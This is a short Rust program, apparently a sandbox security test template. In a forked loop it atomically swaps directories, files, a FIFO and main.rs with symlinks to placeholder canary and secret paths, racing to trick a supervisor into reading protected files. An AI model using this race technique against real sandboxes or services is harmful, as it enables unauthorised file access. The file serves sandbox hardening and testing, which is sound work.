use std::{ffi::{c_char, CStr}, fs, os::unix::fs::symlink, time::{Duration, Instant}};

extern "C" {
    fn fork() -> i32;
    fn mkfifo(path: *const c_char, mode: u32) -> i32;
    fn renameat2(from: i32, one: *const c_char, to: i32, other: *const c_char, flags: u32) -> i32;
}

// Names change what they are all the time, from before the end until after it.
fn main() {
    println!("attempt");
    let swap = |one: &CStr, other: &CStr| unsafe { renameat2(-100, one.as_ptr(), -100, other.as_ptr(), 2) };
    let _ = fs::create_dir("/box/real");
    let _ = symlink("@CANARY_DIR@", "/box/link");
    let _ = symlink("@SECRET@", "/box/secret");
    let _ = fs::write("/box/file", "");
    let child = unsafe { mkfifo(c"/box/fifo".as_ptr(), 0o666); fork() };
    let end = Instant::now() + Duration::from_secs(2);
    while child == 0 || Instant::now() < end {
        swap(c"/box/real", c"/box/link");
        swap(c"/box/file", c"/box/fifo");
        swap(c"/box/main.rs", c"/box/secret");
    }
}
